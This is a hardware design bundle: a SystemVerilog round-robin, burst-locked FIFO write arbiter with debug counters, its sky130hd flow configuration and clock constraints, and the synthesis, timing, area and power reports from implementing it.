<file path="src/rtl/fifo_write_arbiter.sv">
// Four-way round-robin, burst-locked arbiter for a shared FIFO write port,
// with a combinational read scheduler and saturating debug counters.
module fifo_write_arbiter #(
  parameter int NUM_REQ    = 4,
  parameter int DATA_WIDTH = 12,
  parameter int BURST_MAX  = 4
) (
  input  logic                          clk,
  input  logic                          rst,
  input  logic [NUM_REQ-1:0]            req_valid,
  input  logic [NUM_REQ*DATA_WIDTH-1:0] req_data,
  output logic [NUM_REQ-1:0]            req_ready,
  output logic [DATA_WIDTH-1:0]         fifo_write_data,
  output logic                          fifo_write_enable,
  input  logic                          fifo_full,
  input  logic                          fifo_empty,
  input  logic                          drain_ready,
  input  logic                          drain_enable,
  output logic                          fifo_read_enable,
  output logic [1:0]                    grant_id,
  output logic [15:0]                   write_count,
  output logic [15:0]                   stall_count
);

  typedef enum logic {
    IDLE,
    BURST
  } state_t;

  localparam logic [3:0]  LP_BURST_MAX = 4'(BURST_MAX);
  localparam logic [15:0] LP_SAT       = 16'hFFFF;

  state_t      r_state;
  state_t      w_nextState;
  logic [1:0]  r_rrPtr;
  logic [1:0]  r_owner;
  logic [1:0]  r_grantId;
  logic [3:0]  r_burstCnt;
  logic [15:0] r_writeCount;
  logic [15:0] r_stallCount;

  logic                  w_candValid;
  logic [1:0]            w_cand;
  logic                  w_selValid;
  logic [1:0]            w_sel;
  logic [NUM_REQ-1:0]    w_ready;
  logic                  w_xfer;
  logic                  w_burstExit;
  logic [DATA_WIDTH-1:0] w_selData;

  // Descending scan so the valid requester closest to r_rrPtr wins.
  always_comb begin
    w_candValid = 1'b0;
    w_cand      = r_rrPtr;
    for (int k = NUM_REQ - 1; k >= 0; k--) begin
      if (req_valid[r_rrPtr + 2'(k)]) begin
        w_candValid = 1'b1;
        w_cand      = r_rrPtr + 2'(k);
      end
    end
  end

  assign w_xfer      = |(req_valid & w_ready);
  assign w_burstExit = !req_valid[r_owner] || fifo_full ||
                       (w_xfer && ((r_burstCnt + 4'd1) == LP_BURST_MAX));

  always_ff @(posedge clk) begin
    if (rst) begin
      r_state      <= IDLE;
      r_rrPtr      <= 2'd0;
      r_owner      <= 2'd0;
      r_grantId    <= 2'd0;
      r_burstCnt   <= 4'd0;
      r_writeCount <= 16'd0;
      r_stallCount <= 16'd0;
    end else begin
      r_state <= w_nextState;
      case (r_state)
        IDLE: begin
          if (w_xfer) begin
            r_owner   <= w_cand;
            r_grantId <= w_cand;
            if (BURST_MAX == 1) begin
              r_rrPtr    <= w_cand + 2'd1;
              r_burstCnt <= 4'd0;
            end else begin
              r_burstCnt <= 4'd1;
            end
          end
        end
        BURST: begin
          if (w_burstExit) begin
            r_rrPtr    <= r_owner + 2'd1;
            r_burstCnt <= 4'd0;
          end else if (w_xfer) begin
            r_burstCnt <= r_burstCnt + 4'd1;
          end
        end
        default: ;
      endcase
      if (w_xfer && (r_writeCount != LP_SAT)) begin
        r_writeCount <= r_writeCount + 16'd1;
      end
      if ((|req_valid) && !w_xfer && (r_stallCount != LP_SAT)) begin
        r_stallCount <= r_stallCount + 16'd1;
      end
    end
  end

  // A single-write burst limit never needs the locked state.
  always_comb begin
    w_nextState = r_state;
    case (r_state)
      IDLE:    if (w_candValid && !fifo_full && (BURST_MAX > 1)) w_nextState = BURST;
      BURST:   if (w_burstExit) w_nextState = IDLE;
      default: w_nextState = IDLE;
    endcase
  end

  always_comb begin
    w_selValid = 1'b0;
    w_sel      = r_owner;
    w_ready    = '0;
    if (!rst) begin
      case (r_state)
        IDLE: begin
          if (w_candValid && !fifo_full) begin
            w_selValid = 1'b1;
            w_sel      = w_cand;
          end
        end
        BURST: begin
          if (!fifo_full) begin
            w_selValid = 1'b1;
            w_sel      = r_owner;
          end
        end
        default: ;
      endcase
    end
    if (w_selValid) begin
      w_ready[w_sel] = 1'b1;
    end
  end

  assign w_selData = req_data[w_sel*DATA_WIDTH +: DATA_WIDTH];

  assign req_ready         = w_ready;
  assign fifo_write_enable = w_xfer;
  assign fifo_write_data   = w_selValid ? w_selData : '0;
  assign fifo_read_enable  = !rst && drain_enable && drain_ready && !fifo_empty;
  assign grant_id          = r_grantId;
  assign write_count       = r_writeCount;
  assign stall_count       = r_stallCount;

endmodule

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = fifo_write_arbiter
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/fifo_write_arbiter.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CAP_MARGIN = 20
export CORE_MARGIN = 2
export CORE_UTILIZATION = 34
export DETAILED_ROUTE_END_ITERATION = 12
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY_LB_ADDON = 0.08
export REMOVE_ABC_BUFFERS = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 4.4 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 0.44 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.44 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
</file>
After elaboration in Yosys (flattened, before gate mapping)
Index checks and enable logic that the tools add are counted.
- register bits: 41
- input bits: 58
- output and inout bits: 52
- word-level logic and storage cells: 85
- add/sub/neg operators: 7
- multipliers: 1
- magnitude comparators: 7
- equal/unequal tests: 5
- shifts and indexed selects: 1
- multiplexer cells: 35
- bitwise gates (word level): 2
- reduce and logical (&&, ||, !) cells: 21
- operator list (cell ; number):
    $shiftx A48 B7 Y12 ; 1
    $add A16 B1 Y16 const B ; 2
    $ne A16 B16 Y1 const B ; 2
    $lt A2 B3 Y1 const B ; 6
    $mux W4 ; 4
    $mux W1 ; 14
    $mux W12 ; 1
    $mux W2 ; 6
    $bmux W1 S2 ; 5
    $logic_and A1 B1 Y1 ; 9
    $pmux W4 S2 ; 1
    $reduce_or A4 Y1 ; 2
    $reduce_and A2 Y1 ; 3
    $logic_not A1 Y1 ; 5
    $add A2 B1 Y2 const B ; 2
    $add A2 B2 Y2 const B ; 2
    $add A4 B1 Y4 const B ; 1
    $and A4 B4 Y4 ; 1
    $eq A4 B3 Y1 const B ; 1
    $mul A2 B2 Y4 const B ; 1
    $pmux W1 S2 ; 2
    $pmux W2 S2 ; 1
    $ne A3 B1 Y1 const B ; 1
    $demux W1 S2 ; 1
    other kinds (4) ; 5

Depth between registers and ports, before layout
- depth after elaboration: 22
- depth in mapped cells: 13
- gate-level depth less buffers: 8

Worst setup path after synthesis
OpenSTA, ideal clock, no wires.
- kind: input-to-output
- start point: input port req_valid[3]
- end point: output port fifo_write_data[10]
- arrival time: 2946 ps
- data required time: 3760 ps
- setup slack: 814 ps
- stages on the path: 9
- buffers on the path: 4
- path through: clkbuf_1 -> or4_1 -> buf_2 -> and2_4 -> buf_6 -> a21oi_2 -> buf_2 -> mux4_2 -> and2_1
- word-level cells in the longest chain between the ends: 13
- elaborated cells between the ends (all ways): 26
- classes of those cells: mul: 1; shift: 1; mux: 23; reduce/logical: 1
- RTL lines (item ; RTL line ; source):
    from (decl) ; 10 ; input logic [NUM_REQ-1:0] req_valid,
    $bmux W1 S2 ; 56 ; if (req_valid[r_rrPtr + 2'(k)]) begin
    $mux W1 (implied by the code) ; 56 ;
    $mux W1 (4 in a row) ; 56 ;
    $logic_and A1 B1 Y1 ; 127 ; if (w_candValid && !fifo_full) begin
    $mux W2 ; 127 ;
    $pmux W2 S2 ; 125 ; case (r_state)
    $mux W2 ; 124 ; if (!rst) begin
    $mul A2 B2 Y4 ; 146 ; assign w_selData = req_data[w_sel*DATA_WIDTH +: DATA_WIDTH];
    $shiftx A48 B7 Y12 ; 146 ;
    $mux W12 * ; 150 ; assign fifo_write_data = w_selValid ? w_selData : '0;
    to (decl) ; 13 ; output logic [DATA_WIDTH-1:0] fifo_write_data,
Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not. The select of a mux whose other input is x is not followed.

Worst setup path after layout
- start point: input port req_valid[0]
- end point: output port fifo_write_enable
- word-level cells in the longest chain between the ends: 17
- elaborated cells between the ends (all ways): 31
- classes of those cells: order compare: 2; mux: 25; bitwise: 1; reduce/logical: 3
- RTL lines (item ; RTL line ; source):
    $bmux W1 S2 ; 56 ;
    $mux W1 (implied by the code) ; 56 ;
    $mux W1 (4 in a row) ; 56 ;
    $logic_and A1 B1 Y1 ; 127 ;
    $mux W2 ; 127 ;
    $pmux W2 S2 ; 125 ;
    $mux W2 ; 124 ;
    $lt A2 B3 Y1 (implied by the code) or $ge A2 B1 Y1 (tied branches) ; 142 ; w_ready[w_sel] = 1'b1;
    $logic_and A1 B1 Y1 (implied by the code) ; 142 ;
    $mux W1 (implied by the code) ; 142 ;
    $demux W1 S2 ; 142 ;
    $mux W4 ; 141 ; if (w_selValid) begin
    $and A4 B4 Y4 * ; 63 ; assign w_xfer = |(req_valid & w_ready);
    $reduce_or A4 Y1 * ; 63 ;
    to (decl) ; 14 ; output logic fifo_write_enable,
Marks and branches as above.

==> impl_metrics.ini <==
[synth]
yosys.area.top_type = dfxtp_1
syn_avg_cell_area_sq_um = 8.74
synth_edf_count = 0
ys_warn_count = 0
ys.flop_type = dfxtp_1
synth.top_cells.by_area = dfxtp_1 30%, mux4_2 11%, a21oi_1 5.7%
ys_seq_elements = 41
synth_top_cell_area_share = 0.299
synth_most_common_cell = dfxtp_1
netlist_area_sq_um = 2750
async_reset_ff_frac = 0
synth_cell_types = 55
syn_inst = 314
synth_common_cells = 41 x dfxtp_1, 31 x a21oi_1, 19 x nand3_1
ys_seq_area_frac = 0.299

[final_layout]
stdcell_area_sq_um = 3740
fillers = 769
drive_above_1_share = 0.361
area_delta_synth_final_pct = 36.2
fin_nets = 479
fin_cells = 520
antenna_cells = 0
fin_util = 0.481

[place]
place_inst = 513
dpl_cell_area_sq_um = 3650
gp_congestion = 0.790
dp_slack_ns = 0.807
place_hpwl_um = 6040
portBuffers = 109

[sta]
maxSlewViolCount = 0
fmax_mhz = 288
setup-tns-final_ns = 0
fin_crit_ns = 3.47
setup-violations-final = 0
postLayoutSetupSlackWorst_ns = 0.932
tightest_slew_ns = 0.737
rsz0062_at_grt = no
slew_headroom = 0.509
whs_ns = 0.308
finalHoldViolCount = 0
timing.final.crit_share = 0.788

[worst_setup_path]
criticalPathCategory = input pin to output pin
critPathArrivalTime_ns = 2.83
worst_setup_path_start_kind = input pin
path_max_fanout = 31
crit_required_ns = 3.76
crit_path_end_kind = output pin

[global_routing]
grt_antenna_before_repair = 0
grt_first_pass_wirelength_um = 12500
grt_max_degree = 48
grt_pass1_vias = 2663
track_usage = 0.177
grt_overflow = 0

[pwr]
finalPower_mw = 0.919
peakVddDrop_mv = 0.104
powerDensity_nw_per_um2 = 246
p_leak_nw = 1.47

[routing]
ant_nets = 0
wire_per_inst_um = 15.3
vias = 2891
drtIter0Drc = 77
drt_wl_total_um = 7950
firstDrtPassIters = 4
drc = 0
viasPerCell = 5.56

[run]
maxCapViolCount = 0

[die]
io_pins = 110
die_w_um = 93.9
dieArea_sq_um = 8810
die_h_um = 93.9
core-area_sq_um = 7770
fp-row-count = 32
start_util = 0.353

[clock_network]
clkTransAtPathRegs_ns = 0.08
cts.htree.levels = 2
cts_setup_buffers = 0
cts.path.max_buffers = 2
clk_root_buffer_cell = clkbuf_8
clkLatencyLatePin_ns = 0.29
postCtsResizedCells = 0
numCtsBuffers = 5
ctsHoldBuffers = 0
cts_tree = done
cts_sinks = 41

[run_status]
status = finished clean

[hold_path]
hold_class = register to register
==> sequential cells by signal, indices dropped and copies added (netlist names) <==
| name | flops |
|---|---|
| r_rrPtr | 2 |
| stall_count | 16 |
| grant_id | 2 |
| r_state | 1 |
| r_burstCnt | 4 |
| write_count | 16 |
==> logic make-up (layout without fill, tap and decap cells) <==
group,count (synthesis),count (layout),share of synthesized area
buffers and inverters,24,128,0.0401
AO/OA/AOI/OAI,77,77,0.185
multiplexers,22,22,0.144
AND/OR/NAND/NOR,145,145,0.313
flip-flops,41,41,0.299
adder cells (fa/ha/maj),3,3,0.0137
XOR/XNOR,2,2,0.00638
==> final cells by class <==
cell class	count	area [sq um]	area share
Multi-Input combinational cell	249	1810	0.485
Timing Repair Buffer	116	871	0.233
Sequential cell	41	821	0.220
Tap cell	102	128	0.0341
Clock buffer	7	86.3	0.0231
Inverter	5	18.8	0.00502
==> placed cells by master, fill, tap and decap left out, drive strengths merged, types with 3 or more instances in the layout <==
cell    instances
dfxtp          41
a211oi          4
ha              3
nor2           16
inv             5
buf           116
or3            17
nand2          11
or4            13
nand3          19
clkbuf          7
mux2            6
a21oi          32
mux4           13
nor2b           9
o31ai          10
nand2b          7
nor4            5
and2           16
nor3           14
o21ai          15
mux2i           3
and3            3
nand4           7
==> final timing paths <==
check	depth (start not counted)	start	end	slack [ns]
max	8	req_valid[0]	fifo_write_enable	0.93
min	2	write_count[9]$_SDFFE_PP0P_	write_count[9]$_SDFFE_PP0P_	0.31
max reg2reg	8	r_rrPtr[1]$_SDFFE_PP0P_	stall_count[8]$_SDFFE_PP0P_	1.13
min reg2reg	2	write_count[9]$_SDFFE_PP0P_	write_count[9]$_SDFFE_PP0P_	0.31
==> critical path, cell delays in order <==
cell and delay [ns]:
buf_4 0.14, or4_1 0.69, a21oi_1 0.31, a31o_1 0.20, a221o_1 0.25, o221ai_4 0.13
inv_2 0.40, buf_4 0.26
==> report_power, final <==
part,leakage [nW],internal (mW),switching [mW]
clock network,0.0443,0.125,0.128
logic,1.09,0.130,0.139
registers,0.332,0.382,0.0154
total,1.47,0.637,0.282
==> metal layers <==
metal / vias up / wire length, um / GRT usage
met2: 122 / 3670 / 0.303
met4: 0 / 45 / 0.0314
met1: 1347 / 3540 / 0.221
li1: 1418 / - / -
met3: 4 / 686 / 0.0337
met5: - / 0 / -
Power figures use the tool's default switching activity.
